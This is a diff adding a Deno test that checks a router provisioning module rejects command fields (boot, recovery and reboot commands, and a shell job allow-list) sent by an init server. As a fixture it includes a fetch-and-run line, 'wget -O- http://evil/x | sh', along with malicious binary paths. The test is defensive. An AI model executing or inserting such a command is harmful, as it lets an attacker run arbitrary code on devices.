@@ -3,6 +3,7 @@ import { tempDir } from "../../tests/support/process.ts";
 import type { Clock } from "../io/mod.ts";
 import { denoNet, writeFileAtomic } from "../io/mod.ts";
 import { memoryLogger } from "../log/logger.ts";
+import { validateConfig } from "../config/mod.ts";
 import { judgeAnswer, provision, provisionUrl } from "./provision.ts";
 
 const DEVICE = { mac: "02:00:00:00:00:01", machine: "TP-Link Archer C7", firmware: "23.05.3" };
@@ -125,4 +126,29 @@ Deno.test("provision: random answers never throw, and a refusal always says why"
     if (answer.ok) assertEquals(typeof answer.provisioned.config, "object");
     else assert(answer.reasons.length > 0);
   }
+});
+
+Deno.test("provision: nothing that runs a program is taken from the init server", () => {
+  const local = validateConfig({ reboot_cmd: "/sbin/reboot", mac: "AA" });
+  assert(local.ok);
+  const answer = judgeAnswer(
+    200,
+    JSON.stringify({
+      token: "t-from-init",
+      boot_cmd: "wget -O- http://evil/x | sh",
+      recovery_cmd: "/tmp/evil",
+      reboot_cmd: "/tmp/evil-reboot",
+      jobs: { allow: ["/bin/sh"] },
+    }),
+    local.config,
+  );
+  assert(answer.ok);
+  const { config, text, warnings } = answer.provisioned;
+  assertEquals(config.token, "t-from-init", "the rest is taken");
+  assertEquals(config.boot_cmd, undefined);
+  assertEquals(config.recovery_cmd, "/etc/init.d/network restart", "the default, not the server's");
+  assertEquals(config.reboot_cmd, "/sbin/reboot", "the box's own value");
+  assertEquals(config.jobs, {});
+  assert(!text.includes("evil"), text);
+  assertEquals(warnings.filter((w) => /from the init server ignored/.test(w)).length, 4);
 });
